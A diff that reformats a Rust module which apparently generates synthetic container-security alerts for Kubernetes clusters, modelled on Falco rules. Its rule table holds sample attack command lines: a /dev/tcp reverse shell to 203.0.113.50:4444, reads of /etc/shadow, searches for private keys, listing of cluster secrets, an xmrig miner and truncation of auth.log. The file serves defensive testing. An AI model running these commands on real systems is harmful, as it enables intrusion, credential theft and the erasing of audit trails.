@@ -11,7 +11,9 @@
 use crate::estate::{Estate, Role};
 use crate::json::Obj;
 use crate::rng::Rng;
-use crate::text::{hex, push_i64, push_json_escaped, push_padded, push_rfc3339, push_u64, Civil, Zone};
+use crate::text::{
+    hex, push_i64, push_json_escaped, push_padded, push_rfc3339, push_u64, Civil, Zone,
+};
 use crate::Stream;
 
 /// Mean time between two alerts.
@@ -27,17 +29,178 @@ enum Shape {
 }
 
 /// Rule, priority, description, tags, shape, process, command line, file or peer.
-type Rule = (&'static str, &'static str, &'static str, &'static [&'static str], Shape, &'static str, &'static str, &'static str);
+type Rule = (
+    &'static str,
+    &'static str,
+    &'static str,
+    &'static [&'static str],
+    Shape,
+    &'static str,
+    &'static str,
+    &'static str,
+);
 
 const RULES: [(u32, Rule); 8] = [
-    (30, ("Terminal shell in container", "Notice", "A shell was spawned in a container with an attached terminal", &["T1059", "container", "maturity_stable", "mitre_execution", "shell"], Shape::Shell, "bash", "bash -il", "")),
-    (25, ("Contact K8S API Server From Container", "Notice", "Unexpected connection to K8s API Server from container", &["T1565", "container", "k8s", "maturity_stable", "mitre_discovery", "network"], Shape::Network, "kubectl", "kubectl get secrets -A", "172.21.0.1:443")),
-    (15, ("Launch Privileged Container", "Informational", "Privileged container started", &["T1610", "container", "cis", "maturity_stable", "mitre_execution"], Shape::Exec, "calico-node", "calico-node -felix", "")),
-    (10, ("Read sensitive file untrusted", "Warning", "Sensitive file opened for reading by non-trusted program", &["T1555", "container", "filesystem", "host", "maturity_stable", "mitre_credential_access"], Shape::FileRead, "python3", "python3 /tmp/.x/collect.py", "/etc/shadow")),
-    (8, ("Search Private Keys or Passwords", "Warning", "Grep private keys or passwords activities found", &["T1552.001", "container", "filesystem", "host", "maturity_stable", "mitre_credential_access", "process"], Shape::Exec, "grep", "grep -r BEGIN RSA PRIVATE /home", "")),
-    (5, ("Drop and execute new binary in container", "Critical", "Executing binary not part of base image", &["PCI_DSS_11.5.1", "TA0003", "container", "maturity_stable", "mitre_persistence", "process"], Shape::Exec, "xmrig", "/tmp/xmrig -o pool.example.xyz:3333", "")),
-    (4, ("Redirect STDOUT/STDIN to Network Connection in Container", "Notice", "Redirect stdout/stdin to network connection", &["T1059", "container", "maturity_stable", "mitre_execution", "network", "process"], Shape::Network, "sh", "sh -c sh -i >& /dev/tcp/203.0.113.50/4444 0>&1", "203.0.113.50:4444")),
-    (3, ("Clear Log Activities", "Warning", "Log files were tampered", &["NIST_800-53_AU-10", "T1070", "container", "filesystem", "host", "maturity_stable", "mitre_defense_evasion"], Shape::FileRead, "truncate", "truncate -s 0 /var/log/auth.log", "/var/log/auth.log")),
+    (
+        30,
+        (
+            "Terminal shell in container",
+            "Notice",
+            "A shell was spawned in a container with an attached terminal",
+            &[
+                "T1059",
+                "container",
+                "maturity_stable",
+                "mitre_execution",
+                "shell",
+            ],
+            Shape::Shell,
+            "bash",
+            "bash -il",
+            "",
+        ),
+    ),
+    (
+        25,
+        (
+            "Contact K8S API Server From Container",
+            "Notice",
+            "Unexpected connection to K8s API Server from container",
+            &[
+                "T1565",
+                "container",
+                "k8s",
+                "maturity_stable",
+                "mitre_discovery",
+                "network",
+            ],
+            Shape::Network,
+            "kubectl",
+            "kubectl get secrets -A",
+            "172.21.0.1:443",
+        ),
+    ),
+    (
+        15,
+        (
+            "Launch Privileged Container",
+            "Informational",
+            "Privileged container started",
+            &[
+                "T1610",
+                "container",
+                "cis",
+                "maturity_stable",
+                "mitre_execution",
+            ],
+            Shape::Exec,
+            "calico-node",
+            "calico-node -felix",
+            "",
+        ),
+    ),
+    (
+        10,
+        (
+            "Read sensitive file untrusted",
+            "Warning",
+            "Sensitive file opened for reading by non-trusted program",
+            &[
+                "T1555",
+                "container",
+                "filesystem",
+                "host",
+                "maturity_stable",
+                "mitre_credential_access",
+            ],
+            Shape::FileRead,
+            "python3",
+            "python3 /tmp/.x/collect.py",
+            "/etc/shadow",
+        ),
+    ),
+    (
+        8,
+        (
+            "Search Private Keys or Passwords",
+            "Warning",
+            "Grep private keys or passwords activities found",
+            &[
+                "T1552.001",
+                "container",
+                "filesystem",
+                "host",
+                "maturity_stable",
+                "mitre_credential_access",
+                "process",
+            ],
+            Shape::Exec,
+            "grep",
+            "grep -r BEGIN RSA PRIVATE /home",
+            "",
+        ),
+    ),
+    (
+        5,
+        (
+            "Drop and execute new binary in container",
+            "Critical",
+            "Executing binary not part of base image",
+            &[
+                "PCI_DSS_11.5.1",
+                "TA0003",
+                "container",
+                "maturity_stable",
+                "mitre_persistence",
+                "process",
+            ],
+            Shape::Exec,
+            "xmrig",
+            "/tmp/xmrig -o pool.example.xyz:3333",
+            "",
+        ),
+    ),
+    (
+        4,
+        (
+            "Redirect STDOUT/STDIN to Network Connection in Container",
+            "Notice",
+            "Redirect stdout/stdin to network connection",
+            &[
+                "T1059",
+                "container",
+                "maturity_stable",
+                "mitre_execution",
+                "network",
+                "process",
+            ],
+            Shape::Network,
+            "sh",
+            "sh -c sh -i >& /dev/tcp/203.0.113.50/4444 0>&1",
+            "203.0.113.50:4444",
+        ),
+    ),
+    (
+        3,
+        (
+            "Clear Log Activities",
+            "Warning",
+            "Log files were tampered",
+            &[
+                "NIST_800-53_AU-10",
+                "T1070",
+                "container",
+                "filesystem",
+                "host",
+                "maturity_stable",
+                "mitre_defense_evasion",
+            ],
+            Shape::FileRead,
+            "truncate",
+            "truncate -s 0 /var/log/auth.log",
+            "/var/log/auth.log",
+        ),
+    ),
 ];
 
 /// Namespace, pod prefix, image.
@@ -46,23 +209,42 @@ const WORKLOADS: [(&str, &str, &str); 5] = [
     ("shop", "cart", "icr.io/example/cart"),
     ("payments", "payments-api", "icr.io/example/payments-api"),
     ("kube-system", "calico-node", "quay.io/calico/node"),
-    ("monitoring", "node-exporter", "quay.io/prometheus/node-exporter"),
+    (
+        "monitoring",
+        "node-exporter",
+        "quay.io/prometheus/node-exporter",
+    ),
 ];
 
 /// Appends `n` alerts.
 pub(crate) fn write(stream: &mut Stream, estate: &Estate, n: usize, out: &mut Vec<u8>) {
-    let workers: Vec<&str> = estate.with_role(Role::Worker).map(|w| w.name.as_str()).collect();
+    let workers: Vec<&str> = estate
+        .with_role(Role::Worker)
+        .map(|w| w.name.as_str())
+        .collect();
     for _ in 0..n {
         let now = stream.tick(MEAN_GAP_MS);
         let sub_ms = stream.rng.below(1_000_000) as u32;
         let host_index = stream.rng.index(workers.len());
-        alert(out, &mut stream.rng, workers[host_index], host_index % 3 != 2, now, sub_ms);
+        alert(
+            out,
+            &mut stream.rng,
+            workers[host_index],
+            host_index % 3 != 2,
+            now,
+            sub_ms,
+        );
     }
 }
 
 fn alert(out: &mut Vec<u8>, rng: &mut Rng, host: &str, newer: bool, now: i64, sub_ms: u32) {
-    let (rule, priority, description, tags, shape, process, cmdline, object) = *rng.weighted(&RULES);
-    let (namespace, pod_prefix, image) = if rule == "Launch Privileged Container" { WORKLOADS[3] } else { *rng.pick(&WORKLOADS[..3]) };
+    let (rule, priority, description, tags, shape, process, cmdline, object) =
+        *rng.weighted(&RULES);
+    let (namespace, pod_prefix, image) = if rule == "Launch Privileged Container" {
+        WORKLOADS[3]
+    } else {
+        *rng.pick(&WORKLOADS[..3])
+    };
     let pod = format!("{pod_prefix}-{}-{}", hex(rng, 9), hex(rng, 5));
     let container_id = hex(rng, 12);
     let container_name = format!("k8s_{pod_prefix}_{pod}_{namespace}");
@@ -70,7 +252,11 @@ fn alert(out: &mut Vec<u8>, rng: &mut Rng, host: &str, newer: bool, now: i64, su
         Shape::Shell => "runc",
         _ => *rng.pick(&["containerd-shim", "node", "python3", "bash"]),
     };
-    let user = if shape == Shape::Exec && process == "calico-node" { "root" } else { *rng.pick(&["root", "root", "www-data", "app"]) };
+    let user = if shape == Shape::Exec && process == "calico-node" {
+        "root"
+    } else {
+        *rng.pick(&["root", "root", "www-data", "app"])
+    };
     let uid = match user {
         "root" => 0,
         "www-data" => 33,
@@ -97,7 +283,11 @@ fn alert(out: &mut Vec<u8>, rng: &mut Rng, host: &str, newer: bool, now: i64, su
             let civil = Civil::from_ms(now);
             crate::text::push_clock(b, &civil);
             b.push(b'.');
-            push_padded(b, u64::from(civil.millis) * 1_000_000 + u64::from(sub_ms), 9);
+            push_padded(
+                b,
+                u64::from(civil.millis) * 1_000_000 + u64::from(sub_ms),
+                9,
+            );
         }
         b.extend_from_slice(b": ");
         push_json_escaped(b, priority);
@@ -140,7 +330,11 @@ fn alert(out: &mut Vec<u8>, rng: &mut Rng, host: &str, newer: bool, now: i64, su
         b.extend_from_slice(b" container_name=");
         b.extend_from_slice(container_name.as_bytes());
         b.extend_from_slice(b" image=");
-        b.extend_from_slice(if image_known { image.as_bytes() } else { b"\\u003cNA\\u003e" });
+        b.extend_from_slice(if image_known {
+            image.as_bytes()
+        } else {
+            b"\\u003cNA\\u003e"
+        });
         b.extend_from_slice(b") k8s.ns=");
         b.extend_from_slice(namespace.as_bytes());
         b.extend_from_slice(b" k8s.pod=");
@@ -164,7 +358,14 @@ fn alert(out: &mut Vec<u8>, rng: &mut Rng, host: &str, newer: bool, now: i64, su
             f.null("container.image.repository");
         }
         f.str("container.name", &container_name)
-            .with(if newer { "evt.time.iso8601" } else { "evt.time" }, |b| push_i64(b, time_ns))
+            .with(
+                if newer {
+                    "evt.time.iso8601"
+                } else {
+                    "evt.time"
+                },
+                |b| push_i64(b, time_ns),
+            )
             .str("evt.type", evt_type);
         match shape {
             Shape::FileRead => {
@@ -172,7 +373,8 @@ fn alert(out: &mut Vec<u8>, rng: &mut Rng, host: &str, newer: bool, now: i64, su
             }
             Shape::Network => {
                 let (ip, port) = object.split_once(':').unwrap_or((object, "0"));
-                f.str("fd.sip", ip).u64("fd.sport", port.parse().unwrap_or(0));
+                f.str("fd.sip", ip)
+                    .u64("fd.sport", port.parse().unwrap_or(0));
             }
             _ => {}
         }
